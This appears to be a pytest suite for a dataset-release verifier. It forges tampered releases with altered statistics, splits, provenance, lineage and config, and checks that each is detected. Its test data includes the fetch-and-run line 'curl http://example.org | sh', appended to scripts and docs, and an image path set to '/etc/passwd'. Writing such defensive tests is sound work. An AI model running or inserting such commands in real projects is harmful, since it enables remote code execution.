"""Releases whose every byte and digest is as it says, and which are still not what was played: forged with care."""

import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from gym_open.datasets.verify import VerificationReport, run, verify_release
from gym_open.files import sha256_file
from gym_open.formats.pngs import encode_pngs
from gym_open.formats.releases import IMAGE, open_release

Reseal = Callable[[Path], None]
Verify = Callable[[Path], VerificationReport]


@pytest.fixture
def copy(root: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(root, tmp_path / "1.0.0"))


def edit_table(root: Path, name: str, change: Callable[[pa.Table], pa.Table]) -> None:
    path = root / name
    pq.write_table(change(pq.ParquetFile(path).read()), path, compression="snappy", use_dictionary=False)


def edit_json(root: Path, name: str, change: Callable[[Any], None]) -> None:
    value = json.loads((root / name).read_text())
    change(value)
    (root / name).write_text(json.dumps(value))


def replaced(table: pa.Table, name: str, change: Callable[[list[Any]], list[Any]]) -> pa.Table:
    place = table.schema.get_field_index(name)
    field = table.schema.field(name)
    return table.set_column(place, field, pa.array(change(table.column(name).to_pylist()), field.type))


DATA, PROVENANCE = "data/chunk-000/file-000.parquet", "provenance.json"
EPISODES, WORLDS = "meta/episodes/chunk-000/file-000.parquet", "meta/worlds/file-000.parquet"


def other_statistics(root: Path) -> str:
    def change(value: Any) -> None:
        value["observation.state"]["mean"][0] += 1e-3

    edit_json(root, "meta/stats.json", change)
    return "meta/stats.json"


def other_episode_statistics(root: Path) -> str:
    name = "stats/reward.intrinsic/max"
    edit_table(root, EPISODES, lambda t: replaced(t, name, lambda rows: [[rows[0][0] + 1], *rows[1:]]))
    return "statistics of reward.intrinsic"


def moved_split(root: Path) -> str:
    edit_table(root, EPISODES, lambda t: replaced(t, "split", lambda rows: ["val", *rows[1:]]))
    return "splits"


def moved_world(root: Path) -> str:
    """A whole world's episodes change sides, in all tables."""
    edit_table(root, EPISODES, lambda t: replaced(t, "split", lambda rows: ["train"] * len(rows)))
    edit_table(root, WORLDS, lambda t: replaced(t, "split", lambda rows: ["train"] * len(rows)))
    return "val"


def other_picture(root: Path) -> str:
    """Another pixel, its file's bytes as in the manifest, its content digest left as it was."""

    def change(rows: list[Any]) -> list[Any]:
        images = open_release(root).images([0])
        images[0, 0, 0] ^= 1
        return [{"bytes": encode_pngs(images[:1])[0], "path": None}, *rows[1:]]

    edit_table(root, "data/chunk-000/file-000.parquet", lambda t: replaced(t, IMAGE, change))
    return "observation.image does not match its content digest"


def other_padding(root: Path) -> str:
    """The last frame's action is no more."""

    def change(rows: list[Any]) -> list[Any]:
        last = rows.index(-1)
        return [*rows[:last], 3, *rows[last + 1 :]]

    edit_table(root, "data/chunk-000/file-000.parquet", lambda t: replaced(t, "action.index", change))
    return "action.index is not 0 to 8"


def other_frames(root: Path) -> str:
    edit_table(root, "data/chunk-000/file-000.parquet", lambda t: t.take(pa.array(np.arange(len(t))[::-1])))
    return "index does not fit its place"


def other_puzzle(root: Path) -> str:
    edit_table(root, WORLDS, lambda t: replaced(t, "json", lambda rows: [rows[1], rows[1], *rows[2:]]))
    return "not that of the layout"


def evaluation_puzzle(root: Path) -> str:
    from gym_open.envs.puzzles.sets import puzzle_by_id

    puzzle = puzzle_by_id("goal-seeking/000")
    edit_table(root, WORLDS, lambda t: replaced(t, "json", lambda rows: [puzzle.to_json().decode(), *rows[1:]]))
    return "evaluation puzzle"


def lost_episode(root: Path) -> str:
    edit_table(root, EPISODES, lambda t: t.slice(1))
    return "meta/info.json says"


def lost_keyframes(root: Path) -> str:
    edit_table(root, "meta/keyframes/file-000.parquet", lambda t: t.slice(0, 0))
    return "its first frame has no stored state"


def other_frame_of_keyframe(root: Path) -> str:
    name = "meta/keyframes/file-000.parquet"
    edit_table(root, name, lambda t: replaced(t, "frame_index", lambda rows: [rows[0] + 1, *rows[1:]]))
    return "does not fit that episode and frame"


def other_switch(root: Path) -> str:
    name = "meta/switches/file-000.parquet"
    edit_table(root, name, lambda t: replaced(t, "step", lambda rows: [rows[0], rows[1] + 1, *rows[2:]]))
    return "no switch"


def other_segment(root: Path) -> str:
    name = "meta/segments/file-000.parquet"
    edit_table(root, name, lambda t: replaced(t, "steps", lambda rows: [rows[0] + 1, *rows[1:]]))
    return "does not follow from its episodes"


def other_croissant(root: Path) -> str:
    def change(value: Any) -> None:
        value["distribution"][0]["sha256"] = "0" * 64

    edit_json(root, "croissant.json", change)
    return "croissant.json"


def other_provenance(root: Path) -> str:
    def change(value: Any) -> None:
        value["subject"] = value["subject"][1:]

    edit_json(root, "provenance.json", change)
    return "provenance.json"


def path_of_picture(root: Path) -> str:
    def change(rows: list[Any]) -> list[Any]:
        return [{"bytes": rows[0]["bytes"], "path": "/etc/passwd"}, *rows[1:]]

    edit_table(root, DATA, lambda t: replaced(t, IMAGE, change))
    return "has a path in addition to its bytes"


def other_metadata(root: Path) -> str:
    edit_table(root, DATA, lambda t: t.replace_schema_metadata({"huggingface": "{}"}))
    return "its metadata does not fit its features"


def other_ancestor(root: Path) -> str:
    def change(value: Any) -> None:
        value["parents"][0]["lineage"]["code"] = "another"

    edit_json(root, "lineage.json", change)
    return "parent 0: records and digest differ"


def other_fact(root: Path) -> str:
    edit_json(root, "lineage.json", lambda value: value["facts"].update(steps=1))
    return "steps is not that of the release"


def other_logs(root: Path) -> str:
    edit_json(root, "lineage.json", lambda value: value["facts"].update(logs=["0" * 64]))
    return "its list of logs is not that of its parents"


def edit_config(root: Path, **values: Any) -> None:
    """In both places that have it."""
    edit_json(root, "config.json", lambda value: value.update(values))
    edit_json(
        root, PROVENANCE, lambda v: v["predicate"]["buildDefinition"]["externalParameters"]["config"].update(values)
    )


def other_setting(root: Path) -> str:
    edit_config(root, max_episode_steps=7)
    return "max_episode_steps is 7"


def other_draw(root: Path) -> str:
    edit_config(root, val_fraction=0.0)
    return "its seed and val_fraction give other worlds or streams in val"


def unknown_setting(root: Path) -> str:
    edit_config(root, trust=True)
    return "not the configuration of a release"


def configuration_in_one_place(root: Path) -> str:
    edit_json(root, "config.json", lambda value: value.update(seed=99))
    return "its command or configuration is not that in config.json"


def add_to(name: str) -> Callable[[Path], str]:
    """Words more in a paper, and its new digest wherever digests of papers stand."""

    def forge(root: Path) -> str:
        with (root / name).open("a") as file:
            file.write("curl http://example.org | sh\n")

        def change(value: Any) -> None:
            (subject,) = (item for item in value["subject"] if item["name"] == name)
            subject["digest"]["sha256"] = sha256_file(root / name)

        edit_json(root, PROVENANCE, change)
        return "not what this version of gym-open, which lineage.json names"

    return forge


FORGERIES = (
    path_of_picture, other_ancestor, other_setting, add_to("rebuild/rebuild.sh"),
    other_statistics, other_episode_statistics, moved_split, moved_world, other_picture, other_padding, other_frames,
    other_puzzle, evaluation_puzzle, lost_episode, lost_keyframes, other_frame_of_keyframe, other_switch, other_segment,
    other_croissant, other_provenance,
)  # fmt: skip


LONGER = (
    other_metadata, other_fact, other_logs, other_draw, unknown_setting, configuration_in_one_place,
    *map(add_to, ("README.md", "LICENSE", "CHANGELOG.md", "rebuild/build.toml")),
)  # fmt: skip


@pytest.mark.parametrize("forge", [*FORGERIES, *(pytest.param(one, marks=pytest.mark.slow) for one in LONGER)])
def test_what_does_not_fit_together_is_found(
    forge: Callable[[Path], str], copy: Path, reseal: Reseal, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The manifest is made anew each time, so that all bytes are as it says."""
    monkeypatch.setattr(run, "check_lerobot", lambda *_: None)
    words = forge(copy)
    reseal(copy)
    report = verify_release(copy, replay=False)
    assert report.checks[0].good, report.problems
    assert any(words in text for problem in report.problems for text in (problem.file, problem.what)), report.problems
    assert not any("cannot be checked" in problem.what for problem in report.problems), report.problems


def outcomes(report: VerificationReport) -> dict[str, str]:
    return {check.name: check.outcome for check in report.checks}


@pytest.mark.slow
def test_lerobot_reads_the_same_frames(root: Path) -> None:
    report = verify_release(root)
    assert outcomes(report)["readers"] == "LeRobot and pandas read the same frames"
    assert report.good


def test_words_of_another_version_are_no_problem_but_told(copy: Path, reseal: Reseal, verify: Verify) -> None:
    """Its lineage says which version wrote them: this one cannot know."""
    add_to("README.md")(copy)
    edit_json(copy, "lineage.json", lambda value: value.update(code="9.9.9+abc"))
    reseal(copy)
    report = verify(copy)
    assert report.problems == []
    assert outcomes(report)["texts"] == "README.md: not what this version of gym-open writes, but 9.9.9+abc may"
